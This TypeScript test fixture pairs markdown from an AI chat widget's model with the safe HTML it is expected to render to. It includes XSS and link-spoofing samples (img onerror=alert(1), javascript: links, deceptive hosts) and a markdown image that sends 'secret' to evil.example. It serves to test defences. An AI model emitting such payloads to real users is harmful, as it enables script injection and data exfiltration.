/** Opens a lot, and closes nothing: 29 000 characters. */
const LADDER = Array.from({ length: 240 }, (_, index) => `${'`'.repeat(index + 1)}a`).join('')

const NUMBERS = Array.from({ length: 502 }, (_, index) => index + 1)
const PRE = '<pre tabindex="0" dir="ltr"><code>'
const HEAD = '<div class="fw-copilot-table" tabindex="0"><table><thead><tr><th>h</th></tr></thead><tbody>'

/** Repeats a template for the numbers from `first` to `last`; `#` is the number. */
function repeat(template: string, first: number, last: number, separator = ''): string {
  const numbers = NUMBERS.slice(first - 1, last)
  return numbers.map((number) => template.replaceAll('#', `${number}`)).join(separator)
}

/** Blocks over the limit of lines or characters: the page would be blocked while they grow. */
const LONG: readonly (readonly [string, string])[] = [
  [
    repeat('#. a', 1, 502, '\n'),
    `<ol>${repeat('<li>a</li>', 1, 500)}</ol><ol start="501">${repeat('<li>a</li>', 501, 502)}</ol>`,
  ],
  [
    `~~~js\n${repeat('a#', 1, 502, '\n')}\n~~~\nb`,
    `${PRE}${repeat('a#', 1, 499, '\n')}</code></pre>${PRE}${repeat('a#', 500, 502, '\n')}</code></pre><p>b</p>`,
  ],
  [
    `|h|\n|-|\n${repeat('|#|', 1, 500, '\n')}`,
    [repeat('<tr><td>#</td></tr>', 1, 498), repeat('<tr><td>#</td></tr>', 499, 500)]
      .map((rows) => `${HEAD}${rows}</tbody></table></div>`)
      .join(''),
  ],
  ['[a](/b)'.repeat(1_500), `<p>${'[a](/b)'.repeat(1_500)}</p>`],
]

/** Markdown of a model, and the nodes that it renders to; links as `A[URL|text]`. */
export const MARKDOWN: readonly (readonly [string, string])[] = [
  ['<img src=x onerror=alert(1)> & <b>', '<p>&lt;img src=x onerror=alert(1)&gt; &amp; &lt;b&gt;</p>'],
  ['![cat](https://evil.example/?d=secret)', '<p>![cat](https://evil.example/?d=secret)</p>'],
  ['[a](javascript:alert(1)) [b](data:text/html,x)', '<p>[a](javascript:alert(1)) [b](data:text/html,x)</p>'],
  [
    '[c](//evil.example/x) [d](https://bank@evil.example)',
    '<p>[c](//evil.example/x) [d](https://bank@evil.example)</p>',
  ],
  ['[a](/%5ffw/proposals) [b](/%5F%66w/mcp)', '<p>[a](/%5ffw/proposals) [b](/%5F%66w/mcp)</p>'],
  ['[a](/_fw%2fproposals) [b](/.//_fw/mcp) [c](/%)', '<p>[a](/_fw%2fproposals) [b](/.//_fw/mcp) [c](/%)</p>'],
  ['[e](/_fw/proposals) [f](/\\evil.example)', '<p>[e](/_fw/proposals) [f](/\\evil.example)</p>'],
  ['[bank.example](https://evil.example/a)', '<p>A[https://evil.example/a|bank.example (evil.example)]</p>'],
  ['See https://evil.example/a?b=1.', '<p>See A[https://evil.example/a?b=1|https://evil.example/a?b=1].</p>'],
  ['[help](/help)', '<p>A[/help|help]</p>'],
  [
    '# Title\n**b** *i* _u_ `c<` snake_case_name 2*3*4',
    '<p class="fw-copilot-heading">Title</p><p><strong>b</strong> <em>i</em> <em>u</em> <code dir="auto">c&lt;</code> snake_case_name 2<em>3</em>4</p>',
  ],
  ['- one\n- two\n\n3. three', '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>'],
  [
    '```js\n<a>\n\n# no\n```\n> q',
    '<pre tabindex="0" dir="ltr"><code>&lt;a&gt;\n\n# no</code></pre><blockquote>q</blockquote>',
  ],
  ['```\nopen **x**', '<pre tabindex="0" dir="ltr"><code>open **x**</code></pre>'],
  [
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '<div class="fw-copilot-table" tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
  ],
  ['\\*not\\* `` a`b ``', '<p>*not* <code dir="auto"> a`b </code></p>'],
  [
    '## a ## \n# b#\n# #\n#\thttps://c.example/?d).',
    '<p class="fw-copilot-heading">a</p><p class="fw-copilot-heading">b#</p><p class="fw-copilot-heading">#</p><p class="fw-copilot-heading">A[https://c.example/?d|https://c.example/?d]).</p>',
  ],
  [LADDER, `<p>${LADDER}</p>`],
  ...LONG,
]

/** Returns the markup of a text, with each link as its URL and words. Runs in the page. */
export function readMarkup(node: Element): string {
  const copy = node.cloneNode(true) as Element
  for (const link of copy.querySelectorAll('a')) {
    if (link.rel !== 'noopener noreferrer nofollow' || link.target !== '_blank') link.textContent = 'unsafe'
    link.querySelector('.fw-copilot-unseen')?.remove()
    const href = (link.getAttribute('href') ?? '').replace(location.origin, '')
    link.replaceWith(`A[${href}|${link.textContent}]`)
  }
  return copy.innerHTML
}
